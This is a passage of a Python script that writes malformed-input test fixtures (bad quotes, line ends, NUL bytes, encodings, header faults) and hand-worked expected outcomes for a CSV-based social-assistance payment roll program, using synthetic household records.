#!/usr/bin/env python3
"""Writes the malformed-input catalogue, tests/catalogue/<fixture>/: the input files (byte for
byte what the fixture is about) and expect.txt, the outcome worked out by hand from inputs.md and
outputs.md (never from the program's output). tests/scripts/catalogue.sh runs them.

Usage: make_catalogue.py [CATALOGUE_DIR]     (default: tests/catalogue beside this script)

Every fixture starts from the same small roll for 2020-09 (the "base"):
  households.csv  H1, H2, H3 dibao (H3 rural), H4 marginal, each with an account and an income
                  below the standard, so that the base writes no exception at all;
  members.csv     H1, H2, H3 two covered members each (head on lines 2, 4, 6), H4 one.
Base outcome: households paid 3 (H1-H3), not_paid 1 (H4, marginal); members counted 6,
not_counted 1 (H4's). A fixture changes one thing and says what follows.

expect.txt, one statement a line ('#' starts a comment):
  args ARG...                       extra options for `benefitroll run`
  status N                          exit status
  stderr TEXT                       standard error contains TEXT (fatal errors)
  codes CODE=N ... | codes none     every row of exceptions.csv, counted by code, exactly
  households rows=N paid=N held=N not_paid=N rejected=N     manifest.json
  members rows=N counted=N not_counted=N rejected=N         manifest.json
  cases rows=N paid=N held=N rejected=N other_month=N       manifest.json
  exception CODE FILE LINE [COLUMN] exceptions.csv has that row
  spec-differs TEXT                 where the program is known to differ from the spec, and
                                    how (reported; see the fixture's comments)
"""
import os
import shutil
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from gb11643 import make_id  # noqa: E402

RUN_MONTH = "2020-09"

# Valid IDs (born well before 2020-09), region 2201xx.
A = make_id("220105", "19620315", 93)
A2 = make_id("220104", "19640702", 90)
B = make_id("220105", "19580509", 186)
B2 = make_id("220105", "19880412", 17)
C = make_id("220105", "19700122", 299)
C2 = make_id("220105", "19721103", 402)
D = make_id("220105", "19501212", 342)

HH_HEADER = ["household_id", "street", "community", "area", "program", "head_name", "head_id",
             "bank_account", "monthly_income"]
HH_ALIASES = ["户编号", "街道", "社区", "城乡", "救助类别", "户主姓名", "户主身份证号", "收款账号", "家庭月收入"]
HH = [
    ["H1", "东站街道", "东站社区", "urban", "dibao", "王建国", A, "6230598867984974", "300.00"],
    ["H2", "远达街道", "远达社区", "urban", "dibao", "刘淑芬", B, "6216794524607325", "0"],
    ["H3", "吉林街道", "东安社区", "rural", "dibao", "张志强", C, "6217018809549203", "100.00"],
    ["H4", "长青街道", "长青社区", "urban", "marginal", "孙桂芝", D, "6230488701762443", "3000.00"],
]
MEM_HEADER = ["household_id", "person_id", "name", "relation", "covered"]
MEM_ALIASES = ["户编号", "身份证号", "姓名", "与户主关系", "是否保障对象"]
MEM = [
    ["H1", A, "王建国", "head", "y"],
    ["H1", A2, "李秀兰", "spouse", "y"],
    ["H2", B, "刘淑芬", "head", "y"],
    ["H2", B2, "刘洋", "child", "y"],
    ["H3", C, "张志强", "head", "y"],
    ["H3", C2, "赵丽", "spouse", "y"],
    ["H4", D, "孙桂芝", "head", "y"],
]
CASE_HEADER = ["case_id", "month", "person_id", "name", "household_id", "street", "community",
               "area", "persons", "bank_account", "reason", "amount", "approved_by"]

# Outcomes used again and again: (rows, paid, held, not_paid, rejected), (rows, counted,
# not_counted, rejected).
BASE_H, BASE_M = (4, 3, 0, 1, 0), (7, 6, 1, 0)
# H2's household row rejected: its two members take its outcome, with no exception of their own.
H2_REJ_H, H2_REJ_M = (4, 2, 0, 1, 1), (7, 4, 1, 2)
# H3's household row rejected, likewise.
H3_REJ_H, H3_REJ_M = (4, 2, 0, 1, 1), (7, 4, 1, 2)
# H1's spouse (members.csv line 3) rejected: H1 held (MEMBER_REJECTED) and its head still counted.
H1_HELD_H, H1_HELD_M = (4, 2, 1, 1, 0), (7, 5, 1, 1)


def rows_text(header, rows, eol="\n", final=True):
    lines = [",".join(header)] + [",".join(r) for r in rows]
    return eol.join(lines) + (eol if final else "")


def hh_text(rows=None, header=None, **kw):
    return rows_text(header or HH_HEADER, HH if rows is None else rows, **kw)


def mem_text(rows=None, header=None, **kw):
    return rows_text(header or MEM_HEADER, MEM if rows is None else rows, **kw)


def with_field(rows, row, col, value):
    out = [list(r) for r in rows]
    out[row][col] = value
    return out


def u8(s):
    return s.encode("utf-8")


FIXTURES = []


def fixture(name, why, hh=None, mem=None, cases=None, status=0, codes=None, h=None, m=None,
            c=None, exc=(), args=None, stderr=None, extra=()):
    """Records one fixture; hh/mem/cases are bytes (None: the base file; cases None: none)."""
    files = {"households.csv": hh if hh is not None else u8(hh_text()),
             "members.csv": mem if mem is not None else u8(mem_text())}
    if cases is not None:
        files["cases.csv"] = cases
    lines = [f"# {line}" for line in why.strip().splitlines()]
    if args:
        lines.append(f"args {args}")
    lines.append(f"status {status}")
    if stderr:
        lines.append(f"stderr {stderr}")
    if status == 0:
        lines.append("codes " + (" ".join(f"{k}={v}" for k, v in sorted(codes.items())) if codes else "none"))
        lines.append("households rows={} paid={} held={} not_paid={} rejected={}".format(*h))
        lines.append("members rows={} counted={} not_counted={} rejected={}".format(*m))
        if c:
            lines.append("cases rows={} paid={} held={} rejected={} other_month={}".format(*c))
        for e in exc:
            lines.append("exception " + " ".join(str(x) for x in e))
    lines.extend(extra)
    FIXTURES.append((name, files, "\n".join(lines) + "\n"))


# ------------------------------------------------------------------------------------------
# Control

fixture("ok-base", "The base roll: no exception; H1-H3 paid, H4 (marginal) not paid.",
        codes={}, h=BASE_H, m=BASE_M)

# ------------------------------------------------------------------------------------------
# Short and long rows (inputs.md: "a number of fields that differs from the header's" is a
# BAD_ROW; the household a rejected row belongs to is the value at the household_id position)

fixture("row-short-household", "H2's row lacks its last field: BAD_ROW; H2 rejected with its members.",
        hh=u8(hh_text([HH[0], HH[1][:8], HH[2], HH[3]])),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("row-long-household", "H2's row has one field more than the header: BAD_ROW.",
        hh=u8(hh_text([HH[0], HH[1] + ["x"], HH[2], HH[3]])),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("row-trailing-comma-all", "Every data row of households.csv ends in a comma (10 fields for 9):\n"
        "four BAD_ROWs; every household and so every member is rejected.",
        hh=u8(rows_text(HH_HEADER, [r + [""] for r in HH])),
        codes={"BAD_ROW": 4}, h=(4, 0, 0, 0, 4), m=(7, 0, 0, 7))
fixture("row-short-member", "H1's spouse (members.csv line 3) lacks a field: BAD_ROW, and H1 is held\n"
        "(MEMBER_REJECTED) with its head counted.",
        mem=u8(mem_text([MEM[0], MEM[1][:4]] + MEM[2:])),
        codes={"BAD_ROW": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
        exc=[("BAD_ROW", "members.csv", 3)])
fixture("row-long-member", "H1's spouse has a field more than the header: BAD_ROW, H1 held.",
        mem=u8(mem_text([MEM[0], MEM[1] + ["n"]] + MEM[2:])),
        codes={"BAD_ROW": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
        exc=[("BAD_ROW", "members.csv", 3)])
fixture("row-commas-only", "A row of nine empty fields (not blank: it has commas) after H2: a row\n"
        "whose every always-required value is missing: 7 MISSING_VALUE (household_id, street,\n"
        "community, area, program, head_name, head_id; monthly_income is required only for a\n"
        "dibao or marginal program, which this row does not give). It belongs to household ''.",
        hh=u8(hh_text([HH[0], HH[1], [""] * 9, HH[2], HH[3]])),
        codes={"MISSING_VALUE": 7}, h=(5, 3, 0, 1, 1), m=BASE_M,
        exc=[("MISSING_VALUE", "households.csv", 4, "head_id")])

# ------------------------------------------------------------------------------------------
# Quotes (inputs.md: a field is quoted only when its very first byte is '"'; text after the
# closing quote, or a quote still open at the end, is a BAD_ROW cut back to its first line)

fixture("quote-unclosed-middle", "H2's street opens a quote that nothing closes: the record runs to the\n"
        "end of the file, so it is a BAD_ROW cut back to line 3; H3 and H4 are read as usual.",
        hh=u8(hh_text(with_field(HH, 1, 1, '"远达街道'))),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("quote-unclosed-last-no-newline", "The last row (H4) opens a quote left open at the end of a file\n"
        "without a final newline: BAD_ROW; H4 and its member rejected.",
        hh=u8(hh_text(with_field(HH, 3, 2, '"长青社区'), final=False)),
        codes={"BAD_ROW": 1}, h=(4, 3, 0, 0, 1), m=(7, 6, 0, 1), exc=[("BAD_ROW", "households.csv", 5)])
fixture("quote-inside-field", 'Quotes inside unquoted fields (刘"淑芬, 远达"社区") are taken as they are:\n'
        "valid text, nothing rejected.",
        hh=u8(hh_text(with_field(with_field(HH, 1, 5, '刘"淑芬'), 1, 2, '远达"社区"'))),
        codes={}, h=BASE_H, m=BASE_M)
fixture("quote-text-after-closing", 'H2\'s street is "远达"街道: text after the closing quote, BAD_ROW.',
        hh=u8(hh_text(with_field(HH, 1, 1, '"远达"街道'))),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("quote-x-y", 'H2\'s head_name is "x"y (the spec\'s own example): BAD_ROW.',
        hh=u8(hh_text(with_field(HH, 1, 5, '"x"y'))),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("quote-stray-swallows-next-line", "H2's street opens a quote; the next quote is the opening one of\n"
        'H3\'s "吉林街道" on the next line, followed by text: a BAD_ROW, cut back to line 3 alone;\n'
        "reading resumes at line 4, where H3 is a good row. One stray quote costs one line.",
        hh=u8(hh_text(with_field(with_field(HH, 1, 1, '"远达街道'), 2, 1, '"吉林街道"'))),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("quote-doubled", 'A quoted field with doubled quotes ("刘""淑芬""" is 刘"淑芬"): valid.',
        hh=u8(hh_text(with_field(HH, 1, 5, '"刘""淑芬"""'))),
        codes={}, h=BASE_H, m=BASE_M)
fixture("quote-all-fields", "Every field of both files quoted, empty ones included: the same roll.",
        hh=u8(rows_text([f'"{x}"' for x in HH_HEADER], [[f'"{x}"' for x in r] for r in HH])),
        mem=u8(rows_text([f'"{x}"' for x in MEM_HEADER], [[f'"{x}"' for x in r] for r in MEM])),
        codes={}, h=BASE_H, m=BASE_M)
fixture("quote-space-before", 'H2\'s street is  "远达街道" with a space first: not quoted, so the value is\n'
        '"远达街道" with its quotes (trimmed of the space): valid text, nothing rejected.',
        hh=u8(hh_text(with_field(HH, 1, 1, ' "远达街道"'))),
        codes={}, h=BASE_H, m=BASE_M)
fixture("quote-space-before-enum", 'H2\'s area is  "urban" with a space first: the value "urban" (quotes\n'
        "included) is not a word of the area column: BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 3, ' "urban"'))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_VALUE", "households.csv", 3, "area")])

# ------------------------------------------------------------------------------------------
# Line ends (inputs.md: LF or CRLF outside quotes end a record; a lone CR is a character; a
# quoted field may hold line ends; text refuses control characters; a row's line is the
# physical line its record begins on)

fixture("quoted-lf-in-text", "H2's head_name is a quoted field holding a LF: the record is whole (lines\n"
        "3-4), but text refuses control characters: BAD_VALUE head_name at line 3.",
        hh=u8(hh_text(with_field(HH, 1, 5, '"刘\n淑芬"'))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "head_name")])
fixture("quoted-crlf-in-text", "A CRLF file; H2's head_name is a quoted field holding CRLF: BAD_VALUE.",
        hh=u8(hh_text(with_field(HH, 1, 5, '"刘\r\n淑芬"'), eol="\r\n")),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "head_name")])
REMARK_HEADER = HH_HEADER + ["remark"]


def remark_rows(first_remark, bad_area_row=None):
    rows = [r + [""] for r in HH]
    rows[0][9] = first_remark
    if bad_area_row is not None:
        rows[bad_area_row][3] = "town"
    return rows


fixture("quoted-lf-line-numbers", "H1's remark (a column the reader ignores) is a quoted field over two\n"
        "lines: H1 is good; H2 begins on line 4, H3 on line 5. H3's area 'town' is a BAD_VALUE\n"
        "reported at line 5 (the physical line its record begins on).",
        hh=u8(rows_text(REMARK_HEADER, remark_rows('"第一行\n第二行"', 2))),
        codes={"BAD_VALUE": 1}, h=H3_REJ_H, m=H3_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 5, "area")])
fixture("quoted-crlf-line-numbers", "As quoted-lf-line-numbers, in a CRLF file with CRLF inside the quotes.",
        hh=u8(rows_text(REMARK_HEADER, remark_rows('"第一行\r\n第二行"', 2), eol="\r\n")),
        codes={"BAD_VALUE": 1}, h=H3_REJ_H, m=H3_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 5, "area")])
fixture("cr-lone-in-text", "A lone CR inside H2's unquoted head_name: a character of the field, and a\n"
        "control character: BAD_VALUE head_name.",
        hh=u8(hh_text(with_field(HH, 1, 5, "刘\r淑芬"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "head_name")])
fixture("cr-lone-before-comma", "H2's area is 'urban' followed by a lone CR, then the comma: the value is\n"
        "urban<CR> (values are trimmed of spaces and tabs only): BAD_VALUE area.",
        hh=u8(hh_text(with_field(HH, 1, 3, "urban\r"))),
        codes={"BAD_VALUE": 1}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "area")])
fixture("cr-lone-in-ignored-column", "A lone CR inside H1's remark (an ignored column): nothing rejected.",
        hh=u8(rows_text(REMARK_HEADER, remark_rows("甲\r乙"))),
        codes={}, h=BASE_H, m=BASE_M)
fixture("cr-only-households", "households.csv with CR line ends only. A lone CR is not a line end, so\n"
        "the whole file is one record: the header. Its first seven names are the always-required\n"
        "columns (the eighth, bank_account, too); the ninth is 'monthly_income<CR>H1', unknown and\n"
        "ignored, like the rest. No data row: all seven members name a household on no row of\n"
        "households.csv: UNKNOWN_HOUSEHOLD, rejected.",
        hh=u8(hh_text(eol="\r")),
        codes={"UNKNOWN_HOUSEHOLD": 7}, h=(0, 0, 0, 0, 0), m=(7, 0, 0, 7))
fixture("cr-only-members", "members.csv with CR line ends only: one record, the header, whose fifth name\n"
        "is 'covered<CR>H1': the always-required column covered is missing: fatal, exit 3.",
        mem=u8(mem_text(eol="\r")), status=3, stderr="members.csv")
fixture("crlf-files", "Both files with CRLF line ends: the same roll.",
        hh=u8(hh_text(eol="\r\n")), mem=u8(mem_text(eol="\r\n")), codes={}, h=BASE_H, m=BASE_M)
fixture("mixed-line-ends", "LF and CRLF mixed within each file: the same roll.",
        hh=u8(",".join(HH_HEADER) + "\r\n" + ",".join(HH[0]) + "\n" + ",".join(HH[1]) + "\r\n"
              + ",".join(HH[2]) + "\n" + ",".join(HH[3]) + "\r\n"),
        mem=u8("\n".join([",".join(MEM_HEADER) + "\r"] + [",".join(r) + ("\r" if i % 2 else "") for i, r in enumerate(MEM)]) + "\n"),
        codes={}, h=BASE_H, m=BASE_M)
fixture("no-final-newline", "Neither file ends in a line end: the same roll.",
        hh=u8(hh_text(final=False)), mem=u8(mem_text(final=False)), codes={}, h=BASE_H, m=BASE_M)
fixture("no-final-newline-crlf", "CRLF files, neither ending in a line end: the same roll.",
        hh=u8(hh_text(eol="\r\n", final=False)), mem=u8(mem_text(eol="\r\n", final=False)),
        codes={}, h=BASE_H, m=BASE_M)

# Blank and whitespace lines (inputs.md: records that are empty or hold only spaces and tabs
# are skipped; they are not rows, but they count as physical lines)
blank = (",".join(HH_HEADER) + "\n\n" + ",".join(HH[0]) + "\n   \n" + ",".join(HH[1]) + "\n\t \t\n"
         + ",".join(with_field(HH, 2, 3, "town")[2]) + "\n\n" + ",".join(HH[3]) + "\n \n\n")
fixture("blank-lines", "Empty, space-only and tab-only lines between the rows and at the end: not rows.\n"
        "H3 (area 'town', BAD_VALUE) is on physical line 7: header 1, blank 2, H1 3, spaces 4,\n"
        "H2 5, tabs 6.",
        hh=u8(blank), codes={"BAD_VALUE": 1}, h=H3_REJ_H, m=H3_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 7, "area")])
fixture("blank-lines-before-header", "Blank and whitespace lines before the header (skipped: the first\n"
        "record is the header) and between members: the same roll.",
        hh=u8("\n  \n\t\n" + hh_text()),
        mem=u8("\r\n" + mem_text().replace("\nH2", "\n \t \nH2")), codes={}, h=BASE_H, m=BASE_M)
fixture("blank-lines-crlf", "A CRLF file with empty and whitespace-only CRLF lines: the same roll.",
        hh=u8(hh_text(eol="\r\n").replace("\r\nH3", "\r\n\r\n \t\r\nH3") + "\r\n  \r\n"),
        codes={}, h=BASE_H, m=BASE_M)

# ------------------------------------------------------------------------------------------
# Empty files and headers (inputs.md: empty file, no header, a header that is a BAD_ROW, a
# column named twice, a missing always-required column: fatal, exit 3, nothing written)

fixture("empty-households", "households.csv is empty (0 bytes): fatal.", hh=b"", status=3,
        stderr="households.csv")
fixture("empty-members", "members.csv is empty (0 bytes): fatal.", mem=b"", status=3,
        stderr="members.csv")
fixture("bom-only", "households.csv holds only a UTF-8 byte-order mark: no header, fatal.",
        hh=b"\xef\xbb\xbf", status=3, stderr="households.csv")
fixture("whitespace-only", "households.csv holds only blank, space and tab lines: no header, fatal.",
        hh=b"\n \n\t\t\n\r\n   ", status=3, stderr="households.csv")
fixture("header-only-households", "households.csv is its header alone: no household; every member\n"
        "names a household on no row: UNKNOWN_HOUSEHOLD, rejected.",
        hh=u8(hh_text([])), codes={"UNKNOWN_HOUSEHOLD": 7}, h=(0, 0, 0, 0, 0), m=(7, 0, 0, 7))
fixture("header-only-members", "members.csv is its header alone: the dibao households H1-H3 have no\n"
        "covered member: NO_COVERED_MEMBERS (review), not paid; H4 (marginal) not paid.",
        mem=u8(mem_text([])), codes={"NO_COVERED_MEMBERS": 3}, h=(4, 0, 0, 4, 0), m=(0, 0, 0, 0))
fixture("header-duplicated", "households.csv names street twice: fatal.",
        hh=u8(rows_text(HH_HEADER + ["street"], [r + ["x"] for r in HH])), status=3,
        stderr="households.csv")
fixture("header-duplicated-alias", "households.csv has street and its alias 街道: fatal.",
        hh=u8(rows_text(HH_HEADER + ["街道"], [r + ["x"] for r in HH])), status=3,
        stderr="households.csv")
fixture("header-missing-required", "households.csv has no head_id column: fatal.",
        hh=u8(rows_text(HH_HEADER[:6] + HH_HEADER[7:], [r[:6] + r[7:] for r in HH])), status=3,
        stderr="households.csv")
fixture("header-missing-required-member", "members.csv has no covered column: fatal.",
        mem=u8(rows_text(MEM_HEADER[:4], [r[:4] for r in MEM])), status=3, stderr="members.csv")
fixture("header-missing-income", "households.csv has no monthly_income column (not always required):\n"
        "every row is dibao or marginal, for which it is required: 4 MISSING_VALUE, all rejected,\n"
        "and all members with them.",
        hh=u8(rows_text(HH_HEADER[:8], [r[:8] for r in HH])),
        codes={"MISSING_VALUE": 4}, h=(4, 0, 0, 0, 4), m=(7, 0, 0, 7),
        exc=[("MISSING_VALUE", "households.csv", 2, "monthly_income")])
fixture("header-extra-columns", "Unknown columns (remark, 备注, Street) and columns with an empty name,\n"
        "between the known ones: ignored; the same roll.",
        hh=u8(rows_text(["remark", "household_id", "", "street", "community", "备注", "area", "program",
                         "head_name", " ", "head_id", "bank_account", "Street", "monthly_income", ""],
                        [["x", r[0], "y", r[1], r[2], "z", r[3], r[4], r[5], "", r[6], r[7], "=1+1", r[8], "w"]
                         for r in HH])),
        codes={}, h=BASE_H, m=BASE_M)
fixture("header-trimmed", "Header names padded with spaces and tabs: trimmed, matched; the same roll.",
        hh=u8(rows_text([f" \t{x}  " for x in HH_HEADER], HH)),
        mem=u8(rows_text([f"{x}\t" for x in MEM_HEADER], MEM)), codes={}, h=BASE_H, m=BASE_M)
fixture("header-wrong-case", "households.csv spells Head_ID: names match exactly, so head_id is\n"
        "missing: fatal.",
        hh=u8(rows_text(HH_HEADER[:6] + ["Head_ID"] + HH_HEADER[7:], HH)), status=3,
        stderr="households.csv")
fixture("header-chinese-aliases", "Chinese header names and Chinese words for the enumerations\n"
        "(城市, 农村, 低保, 边缘, 户主, 配偶, 子女, 是): the same roll.",
        hh=u8(rows_text(HH_ALIASES, [[{"urban": "城市", "rural": "农村", "dibao": "低保",
                                         "marginal": "边缘"}.get(x, x) for x in r] for r in HH])),
        mem=u8(rows_text(MEM_ALIASES, [[{"head": "户主", "spouse": "配偶", "child": "子女", "y": "是"}.get(x, x)
                                        for x in r] for r in MEM])),
        codes={}, h=BASE_H, m=BASE_M)
fixture("header-bad-row", "The header of households.csv opens a quote it never closes: the header\n"
        "is a BAD_ROW: fatal.",
        hh=u8(hh_text(header=HH_HEADER[:1] + ['"street'] + HH_HEADER[2:])), status=3,
        stderr="households.csv")
fixture("header-nul", "The header of members.csv holds a NUL byte: a BAD_ROW header: fatal.",
        mem=u8(mem_text(header=["household_id", "person\0_id"] + MEM_HEADER[2:])), status=3,
        stderr="members.csv")

# ------------------------------------------------------------------------------------------
# A NUL in each column (inputs.md: a NUL byte makes its record a BAD_ROW)

for col, name in enumerate(HH_HEADER):
    if col == 0:
        # The rejected row's household is the value at the household_id position, 'H2<NUL>',
        # which is not 'H2': H2's members name a household that is on no row.
        fixture("nul-households-household_id", "A NUL at the end of H2's household_id: BAD_ROW. The\n"
                "row belongs to household 'H2<NUL>', so H2's two members name a household on no\n"
                "row: UNKNOWN_HOUSEHOLD, rejected.",
                hh=u8(hh_text(with_field(HH, 1, 0, "H2\0"))),
                codes={"BAD_ROW": 1, "UNKNOWN_HOUSEHOLD": 2}, h=H2_REJ_H, m=H2_REJ_M,
                exc=[("BAD_ROW", "households.csv", 3)])
        continue
    v = HH[1][col]
    fixture(f"nul-households-{name}", f"A NUL inside H2's {name}: BAD_ROW; H2 rejected with its members.",
            hh=u8(hh_text(with_field(HH, 1, col, v[:1] + "\0" + v[1:]))),
            codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
for col, name in enumerate(MEM_HEADER):
    if col == 0:
        fixture("nul-members-household_id", "A NUL at the end of the household_id of H1's spouse: BAD_ROW.\n"
                "The row names household 'H1<NUL>', on no row of households.csv: UNKNOWN_HOUSEHOLD\n"
                "too (README: a rejected member naming an unknown household gets both). H1 itself is\n"
                "not named, so it is paid, with its head.",
                mem=u8(mem_text(with_field(MEM, 1, 0, "H1\0"))),
                codes={"BAD_ROW": 1, "UNKNOWN_HOUSEHOLD": 1}, h=BASE_H, m=(7, 5, 1, 1),
                exc=[("BAD_ROW", "members.csv", 3)])
        continue
    v = MEM[1][col]
    fixture(f"nul-members-{name}", f"A NUL inside the {name} of H1's spouse: BAD_ROW; H1 held.",
            mem=u8(mem_text(with_field(MEM, 1, col, v[:1] + "\0" + v[1:]))),
            codes={"BAD_ROW": 1, "MEMBER_REJECTED": 1}, h=H1_HELD_H, m=H1_HELD_M,
            exc=[("BAD_ROW", "members.csv", 3)])

E1, E2, E3 = (make_id("220105", "19800101", 11), make_id("220105", "19810202", 22),
              make_id("220105", "19820303", 33))
CASES_BASE = [
    ["C1", RUN_MONTH, E1, "陈一", "H1", "东站街道", "东站社区", "urban", "2", "6222000000000011", "医疗", "500.00", "district"],
    ["C2", RUN_MONTH, E2, "陈二", "H2", "远达街道", "远达社区", "urban", "3", "6222000000000022", "住院", "800.00", "district"],
]
for col, name in enumerate(CASE_HEADER):
    v = CASES_BASE[1][col]
    bad = v + "\0" if col == 4 else v[:1] + "\0" + v[1:]
    unknown = col == 4
    fixture(f"nul-cases-{name}", f"A NUL inside the {name} of case C2 (cases.csv line 3): BAD_ROW; the case is\n"
            "rejected; C1 is paid. Cases never change a household's outcome."
            + ("\nThe row names household 'H2<NUL>', on no row: UNKNOWN_HOUSEHOLD too." if unknown else ""),
            cases=u8(rows_text(CASE_HEADER, with_field(CASES_BASE, 1, col, bad))),
            codes={"BAD_ROW": 1, **({"UNKNOWN_HOUSEHOLD": 1} if unknown else {})}, h=BASE_H, m=BASE_M,
            c=(2, 1, 0, 1, 0), exc=[("BAD_ROW", "cases.csv", 3)])

# ------------------------------------------------------------------------------------------
# Encodings (inputs.md: UTF-8 with or without BOM, else GB18030; a BOM counts only at the very
# start; bytes not valid in the file's encoding make their record a BAD_ROW)

fixture("utf16le-bom-households", "households.csv in UTF-16LE with its BOM (FF FE). Not UTF-8, so read\n"
        "as GB18030: FF is not GB18030 and every other byte of the ASCII text is a NUL, so the\n"
        "header is a BAD_ROW: fatal, exit 3, nothing written. Never a crash, never a garbled roll.",
        hh=b"\xff\xfe" + hh_text().encode("utf-16-le"), status=3, stderr="households.csv")
fixture("utf16le-nobom-households", "households.csv in UTF-16LE without a BOM: NULs in the header: fatal.",
        hh=hh_text().encode("utf-16-le"), status=3, stderr="households.csv")
fixture("utf16be-bom-members", "members.csv in UTF-16BE with its BOM (FE FF): NULs and bytes invalid\n"
        "in GB18030 in the header: fatal.",
        mem=b"\xfe\xff" + mem_text().encode("utf-16-be"), status=3, stderr="members.csv")
fixture("bom-utf8", "Both files UTF-8 with a byte-order mark: the same roll.",
        hh=b"\xef\xbb\xbf" + u8(hh_text()), mem=b"\xef\xbb\xbf" + u8(mem_text()), codes={}, h=BASE_H,
        m=BASE_M)
fixture("bom-middle-household-id", "A BOM (U+FEFF) before H2's household_id, on line 3: a BOM counts only\n"
        "at the very start of the file, elsewhere it is text, and a household id is letters,\n"
        "digits, - and _: BAD_VALUE. The row belongs to '<BOM>H2', so H2's members are\n"
        "UNKNOWN_HOUSEHOLD.",
        hh=u8(hh_text(with_field(HH, 1, 0, "\ufeffH2"))),
        codes={"BAD_VALUE": 1, "UNKNOWN_HOUSEHOLD": 2}, h=H2_REJ_H, m=H2_REJ_M,
        exc=[("BAD_VALUE", "households.csv", 3, "household_id")])
fixture("bom-middle-text", "A BOM inside H2's head_name (刘<U+FEFF>淑芬): U+FEFF is not a control\n"
        "character (U+0000-U+001F, U+007F-U+009F): valid text, nothing rejected.",
        hh=u8(hh_text(with_field(HH, 1, 5, "刘\ufeff淑芬"))), codes={}, h=BASE_H, m=BASE_M)
second = [["H5", "东盛街道", "东盛社区", "urban", "dibao", "周红", make_id("220105", "19660606", 60),
           "6222000011112222", "200.00"]]
fixture("bom-second-header", "Two exports pasted together: after H4 comes the second file's BOM and\n"
        "header (line 6), then H5 (line 7, no members). Line 6 is a data row: '<BOM>household_id'\n"
        "(not a household id), area 'area', program 'program', head_id 'head_id', bank_account\n"
        "'bank_account' and monthly_income 'monthly_income' are 6 BAD_VALUEs (street, community\n"
        "and head_name are valid text). H5 is a dibao household without a covered member:\n"
        "NO_COVERED_MEMBERS, not paid.",
        hh=u8(hh_text() + "\ufeff" + hh_text(second)),
        codes={"BAD_VALUE": 6, "NO_COVERED_MEMBERS": 1}, h=(6, 3, 0, 2, 1), m=BASE_M,
        exc=[("BAD_VALUE", "households.csv", 6, "household_id")])
fixture("gbk-households", "households.csv in GBK (what Excel saves on Chinese Windows): not UTF-8, so\n"
        "GB18030, of which GBK is a part: the same roll.",
        hh=hh_text().encode("gbk"), codes={}, h=BASE_H, m=BASE_M)
fixture("gbk-chinese-headers", "Both files in GBK with Chinese headers and CRLF: the same roll.",
        hh=rows_text(HH_ALIASES, HH, eol="\r\n").encode("gbk"),
        mem=rows_text(MEM_ALIASES, MEM, eol="\r\n").encode("gbk"), codes={}, h=BASE_H, m=BASE_M)
rare = with_field(with_field(HH, 1, 5, "刘𬱖"), 2, 5, "张㐀䶵")
fixture("gb18030-4byte", "households.csv in GB18030 with names holding characters that GB18030 writes\n"
        "in four bytes (U+2CC56 𬱖, U+3400 㐀, U+4DB5 䶵): decoded, valid text, the same roll.",
        hh=hh_text(rare).encode("gb18030"), codes={}, h=BASE_H, m=BASE_M,
        extra=["# 4-byte GB18030 sequences: " + " ".join(ch.encode("gb18030").hex() for ch in "𬱖㐀䶵")])
fixture("utf8-4byte", "UTF-8 with 4-byte characters (𬱖, 𠀀, an emoji) in names and a street: the same roll.",
        hh=u8(hh_text(with_field(with_field(rare, 0, 5, "王𠀀"), 3, 1, "长青街道🏠"))), codes={}, h=BASE_H,
        m=BASE_M)
ascii_hh = [["H1", "Dongzhan", "Dongzhan", "urban", "dibao", "Wang Jianguo", A, "6230598867984974", "300.00"],
            ["H2", "Yuanda", "Yuanda", "urban", "dibao", "Liu Shufen", B, "6216794524607325", "0"],
            ["H3", "Jilin", "Dongan", "rural", "dibao", "Zhang Zhiqiang", C, "6217018809549203", "100.00"],
            ["H4", "Changqing", "Changqing", "urban", "marginal", "Sun Guizhi", D, "6230488701762443", "3000.00"]]
fixture("bytes-invalid-both", "An ASCII households.csv with one byte FF in H2's head_name: not UTF-8, so\n"
        "GB18030, where FF is not valid either: H2's record is a BAD_ROW; the rest is read.",
        hh=hh_text(with_field(ascii_hh, 1, 5, "Liu\udcffShufen")).encode("utf-8", "surrogateescape"),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("bytes-invalid-gbk", "households.csv in GBK with a lone lead byte 81 just before the comma after\n"
        "H2's head_name (81 2C is no GB18030 sequence): H2 is a BAD_ROW, the rest is read.",
        hh=hh_text().encode("gbk").replace("刘淑芬".encode("gbk"), "刘淑芬".encode("gbk") + b"\x81"),
        codes={"BAD_ROW": 1}, h=H2_REJ_H, m=H2_REJ_M, exc=[("BAD_ROW", "households.csv", 3)])
fixture("bytes-invalid-forced-utf8", "A UTF-8 households.csv with one byte FF in H2's head_name, read with\n"
